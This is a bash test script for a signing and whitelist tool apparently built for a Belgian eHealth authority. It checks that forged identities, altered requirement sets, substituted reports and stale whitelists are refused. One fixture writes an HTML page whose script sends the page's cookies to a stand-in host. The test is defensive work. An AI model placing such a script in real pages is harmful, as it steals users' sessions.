#!/usr/bin/env bash
# The authority's policy against an applicant who games it: an identity the certificate does
# not prove, a forged or modified requirement set, a report of its own; and the whitelist
# freeze attack. Each case asserts the check id, the exit code, and that nothing was written.
. "$(dirname "$0")/lib.sh" "$@"
cd "$WORK"
PY=/usr/bin/python3
TOOL="$PY $SRCDIR/tests/cli/asice-tool.py"
PKI=$WORK/pki
if ! bash "$SRCDIR/tests/pki/mkpki.sh" "$PKI" >/dev/null 2>&1; then
	bad "tests/pki/mkpki.sh failed"
	finish
	exit 1
fi
export KS_PASSWORD=Test_001
KS=$PKI/ehealth.acc-p12
MINI=$SRCDIR/tests/fixtures/checklist/valid/mini-requirements.yaml
recent=$(date -u -d '-10 days' +%Y-%m-%d)
mkdir fod
# The authority's whitelist directory: nothing may appear in it after a refused bundle.
nothing_written() { check "$1: nothing written in fod/" test -z "$(ls -A fod)"; }

# sign_as CERT IN OUT [NAME FILE]...: IN with entries replaced, the manifest's digests updated
# and signed again by CERT (the test PKI's leaf key): what an applicant can make.
sign_as() {
	local cert=$1 in=$2 out=$3
	shift 3
	$TOOL rehash "$in" tmp.asice "$@" || bad "cannot rehash $in"
	unzip -p tmp.asice META-INF/ASiCManifest.xml >manifest.xml
	openssl cms -sign -binary -in manifest.xml -signer "$cert" -inkey "$PKI/leaf.key" \
		-certfile "$PKI/ca-chain.pem" -md sha256 -nosmimecap -cades -outform DER \
		-out sig.der || bad "openssl cms -sign $cert"
	$TOOL replace tmp.asice "$out" META-INF/signature001.p7s sig.der
	rm -f tmp.asice
}

# Route vitalink, signed by the organisation's CBE certificate.
org vl vitalink
pdf vl/documents/belrai-contract.pdf "BelRAI contract"
pdf vl/documents/vitalink-contract.pdf "Vitalink contract"
"$COT" -C vl bundle --keystore "$KS" --password-env KS_PASSWORD -o "$WORK/G.asice" >/dev/null ||
	bad "cannot build G.asice"

# --- 1. identity: a NIHII certificate proves the NIHII, not a KBO -------------------------------
# The applicant holds NIHII-HOSPITAL=71089815 and declares another organisation's KBO.
unzip -p G.asice submission.xml |
	sed 's|<kbo>0403019261</kbo>|<kbo>0566988259</kbo>\n    <nihii>71089815</nihii>|' >other-kbo.xml
sign_as "$PKI/nihii.pem" G.asice N.asice submission.xml other-kbo.xml
run 1 "$COT" verify --trust "$PKI/root.pem" N.asice
out_has "N.asice: INDETERMINATE/SIG_CONSTRAINTS_FAILURE"
out_has "proves NIHII-HOSPITAL 71089815, not the KBO 0566988259"
out_has "[signer-identifier]"
run 1 "$COT" -C fod whitelist add --bundle ../N.asice --trust "$PKI/root.pem"
err_has "signer-identifier"
nothing_written "NIHII certificate, another KBO"
# The authority's register binds that NIHII to that KBO: then it is proven.
printf '# NIHII   KBO          name\n71089815 0566.988.259 ANDERE ORGANISATIE VZW\n\n' >register.txt
run 0 "$COT" verify --trust "$PKI/root.pem" --register register.txt N.asice
out_has "N.asice: TOTAL-PASSED"
run 0 "$COT" -v verify --trust "$PKI/root.pem" --register register.txt N.asice
out_has "bound to KBO 0566988259 by register.txt:2 [signer-identifier]"
run 0 "$COT" -C fod whitelist add --bundle ../N.asice --trust "$PKI/root.pem" \
	--register ../register.txt
run 0 "$COT" -C fod whitelist export --format csv
out_has "0566988259,Maison Sainte-Elisabeth,71089815,"
rm -rf fod && mkdir fod
# A register that binds the NIHII to another KBO proves nothing for this one.
printf '71089815 0403019261\n' >register-other.txt
run 1 "$COT" verify --trust "$PKI/root.pem" --register register-other.txt N.asice
out_has "the register does not say that NIHII"
# A register with a bad line is refused whole, naming the line.
printf '71089815 0566988259\n71089815 0566988258 typo\n' >register-bad.txt
run 2 "$COT" verify --trust "$PKI/root.pem" --register register-bad.txt N.asice
err_has "register-bad.txt:2: KBO '0566988258'"
run 2 "$COT" -C fod whitelist add --bundle ../N.asice --trust "$PKI/root.pem" \
	--register ../register-bad.txt
nothing_written "a bad register"
run 2 "$COT" verify --trust "$PKI/root.pem" --register nonexistent.txt N.asice
err_has "cannot read the register"
run 2 "$COT" -C fod whitelist add --kbo 0403019261 --name X --register ../register.txt
err_has "--requirements and --register go with --bundle"
# A CBE certificate proves the KBO; a NIHII declared beside it is not taken unless registered.
unzip -p G.asice submission.xml |
	sed 's|<kbo>0403019261</kbo>|&\n    <nihii>71089815</nihii>|' >cbe-nihii.xml
sign_as "$PKI/good.pem" G.asice C.asice submission.xml cbe-nihii.xml
run 0 "$COT" -v verify --trust "$PKI/root.pem" C.asice
out_has "its NIHII 71089815 is proven neither by the certificate nor by a register"
run 0 "$COT" -C fod whitelist add --bundle ../C.asice --trust "$PKI/root.pem"
run 0 "$COT" -C fod whitelist export --format csv
out_has "0403019261,Maison Sainte-Elisabeth,,"
rm -rf fod && mkdir fod

# --- 2. the requirement set is the authority's ------------------------------------------------
# dr: a direct project answering the mini set (not shipped: trusted with --requirements).
org dr direct
cp "$MINI" dr/mini.yaml
sed -i 's|requirements: "belrai-security-1.0"|requirements: "mini.yaml"|' dr/cot.yaml
sed -e 's/name: "Test vzw", kbo: "0234567873"/name: "Maison Sainte-Elisabeth", kbo: "0403019261"/' \
	-e "s/reviewed: 2026-01-15/reviewed: $recent/" \
	"$SRCDIR/tests/fixtures/checklist/valid/mini-answers.yaml" >dr/checklist.yaml
pdf dr/documents/belrai-contract.pdf "BelRAI contract"
pdf dr/documents/proof-of-mandate.pdf "Belgisch Staatsblad"
pdf dr/evidence/policy.pdf "policy"
"$COT" -C dr bundle --keystore "$KS" --password-env KS_PASSWORD -o "$WORK/D.asice" >/dev/null ||
	bad "cannot build D.asice"
run 0 "$COT" -v verify --trust "$PKI/root.pem" --requirements "$MINI" D.asice
out_has "D.asice: TOTAL-PASSED"
out_has "[checklist-requirements]"
out_has "byte for byte [checklist-report]"
# Without --requirements the set is unknown to the authority: INDETERMINATE with the reason.
run 1 "$COT" verify --trust "$PKI/root.pem" D.asice
out_has "D.asice: INDETERMINATE/SIG_CONSTRAINTS_FAILURE"
out_has "mini-security 0.1, which the authority does not trust (trusted: belrai-security 1.0"
out_has "[checklist-requirements]"
run 1 "$COT" -C fod whitelist add --bundle ../D.asice --trust "$PKI/root.pem"
nothing_written "an unknown requirement set"
run 0 "$COT" -C fod whitelist add --bundle ../D.asice --trust "$PKI/root.pem" \
	--requirements "$MINI"
rm -rf fod && mkdir fod
# A forged set: three easy items named like the shipped one, answered in full by cot bundle.
cp -r dr forged
sed -e 's/^id: mini-security/id: belrai-security/' -e 's/^version: "0.1"/version: "1.0"/' \
	"$MINI" >forged/mini.yaml
sed -i 's/requirements: {id: mini-security, version: "0.1"}/requirements: {id: belrai-security, version: "1.0"}/' \
	forged/checklist.yaml
"$COT" -C forged bundle --keystore "$KS" --password-env KS_PASSWORD -o "$WORK/F.asice" \
	>/dev/null || bad "cannot build F.asice"
run 1 "$COT" verify --trust "$PKI/root.pem" F.asice
out_has "F.asice: TOTAL-FAILED/HASH_FAILURE"
out_has "is not the trusted set belrai-security 1.0"
out_has "it has 3 requirements, the trusted set"
out_has "[checklist-requirements]"
out_has "and not answered [answer-missing]"
run 1 "$COT" -C fod whitelist add --bundle ../F.asice --trust "$PKI/root.pem"
err_has "checklist-requirements"
nothing_written "a forged set"
# A modified set: the same id and version, one mandatory requirement made recommended.
cp -r dr modified
sed -i '0,/level: mandatory/s//level: recommended/' modified/mini.yaml
"$COT" -C modified bundle --keystore "$KS" --password-env KS_PASSWORD -o "$WORK/M.asice" \
	>/dev/null || bad "cannot build M.asice"
run 1 "$COT" verify --trust "$PKI/root.pem" --requirements "$MINI" M.asice
out_has "M.asice: TOTAL-FAILED/HASH_FAILURE"
out_has "is not the trusted set mini-security 0.1"
out_has "[checklist-requirements]"
run 1 "$COT" -C fod whitelist add --bundle ../M.asice --trust "$PKI/root.pem" \
	--requirements "$MINI"
nothing_written "a modified set"
# --requirements must itself be a valid set.
printf 'format: cot.requirements/1\nid: x\n' >broken.yaml
run 2 "$COT" verify --trust "$PKI/root.pem" --requirements broken.yaml D.asice
err_has "requirement set 'broken.yaml' is not valid"

# --- 3. the report is cot's own ----------------------------------------------------------------
printf '<!DOCTYPE html>\n<html lang="en"><body><h1>READY</h1><script>fetch("https://x.example/"+document.cookie)</script></body></html>\n' >evil.html
sign_as "$PKI/good.pem" D.asice R.asice checklist/report.html evil.html
run 1 "$COT" verify --trust "$PKI/root.pem" --requirements "$MINI" R.asice
out_has "R.asice: TOTAL-FAILED/HASH_FAILURE"
out_has "is not the report cot renders from the included answers and the trusted set: do not open it; it holds a script"
out_has "[checklist-report]"
run 1 "$COT" -C fod whitelist add --bundle ../R.asice --trust "$PKI/root.pem" \
	--requirements "$MINI"
err_has "checklist-report"
nothing_written "a report of its own"
# One byte more is enough.
unzip -p D.asice checklist/report.html >report.html
printf ' ' >>report.html
sign_as "$PKI/good.pem" D.asice R2.asice checklist/report.html report.html
run 1 "$COT" verify --trust "$PKI/root.pem" --requirements "$MINI" R2.asice
out_has "[checklist-report]"
out_lacks "holds a script"
# The report does not depend on where, when or in which locale cot bundle ran.
cp -r dr "dr moved"
# Another time of the same UTC day (the report names the day it was made: three hours
# earlier was another day between midnight and 3:00 UTC).
COT_NOW=$(date -u +%Y-%m-%d)T00:00:01Z LC_ALL=de_DE.UTF-8 TZ=Pacific/Kiritimati \
	"$COT" -C "dr moved" bundle --keystore "$KS" --password-env KS_PASSWORD \
	-o "$WORK/D2.asice" >/dev/null || bad "cannot build D2.asice"
run 0 "$COT" verify --trust "$PKI/root.pem" --requirements "$MINI" D2.asice
unzip -p D2.asice checklist/report.html >report2.html
unzip -p D.asice checklist/report.html >report1.html
same report1.html report2.html

# --- 4. the freeze attack ------------------------------------------------------------------------
export COT_NOW=2026-12-01T10:00:00Z
run 0 "$COT" -C fod whitelist add --kbo 0403019261 --name "Maison Sainte-Elisabeth"
run 2 "$COT" -C fod whitelist sign --keystore "$PKI/modern.p12" --password-env KS_PASSWORD \
	--valid-for 0
err_has "--valid-for takes a number of days from 1 to 366"
run 0 "$COT" -C fod whitelist sign --keystore "$PKI/modern.p12" --password-env KS_PASSWORD \
	--valid-for 7
out_has "Valid until 2026-12-08T10:00:00Z"
check "the list carries its next-update" grep -q 'next-update="2026-12-08T10:00:00Z"' \
	fod/whitelist.xml
check "the list is valid against its schema" xmllint --noout --schema \
	"$SRCDIR/templates/whitelist.xsd" fod/whitelist.xml
run 0 "$COT" -C fod whitelist list
out_has "next-update: 2026-12-08T10:00:00Z"
run 0 "$COT" whitelist check --file fod/whitelist.xml --kbo 0403019261 --trust "$PKI/root.pem"
# A week and a day later the same list, validly signed, is refused: exit 3, what to do.
snapshot fod >before.txt
COT_NOW=2026-12-09T10:00:00Z run 3 "$COT" whitelist check --file fod/whitelist.xml \
	--kbo 0403019261 --trust "$PKI/root.pem"
err_has "was due to be replaced by 2026-12-08T10:00:00Z"
err_has "ask the authority"
COT_NOW=2026-12-09T10:00:00Z run 3 "$COT" whitelist check --file fod/whitelist.xml \
	--kbo 0566988259 --trust "$PKI/root.pem"
snapshot fod >after.txt
same before.txt after.txt
# Signing again sets a new next-update; the default is 31 days.
COT_NOW=2026-12-09T10:00:00Z run 0 "$COT" -C fod whitelist sign --keystore "$PKI/modern.p12" \
	--password-env KS_PASSWORD
out_has "Valid until 2027-01-09T10:00:00Z"
COT_NOW=2026-12-09T10:00:00Z run 0 "$COT" whitelist check --file fod/whitelist.xml \
	--kbo 0403019261 --trust "$PKI/root.pem"
run 0 "$COT" -C fod whitelist list
out_has "sign"
# An old list without next-update: signed, it is refused (it could be served forever);
# read without --trust (nothing proven either way) it still answers.
sed 's/ next-update="[^"]*"//' fod/whitelist.xml >old.xml
openssl cms -sign -binary -in old.xml -signer "$PKI/good.pem" -inkey "$PKI/leaf.key" \
	-certfile "$PKI/ca-chain.pem" -md sha256 -nosmimecap -outform DER -out old.xml.p7s ||
	bad "cannot sign old.xml"
run 3 "$COT" whitelist check --file old.xml --kbo 0403019261 --trust "$PKI/root.pem"
err_has "has no next-update"
run 0 "$COT" whitelist check --file old.xml --kbo 0403019261
unset COT_NOW

finish
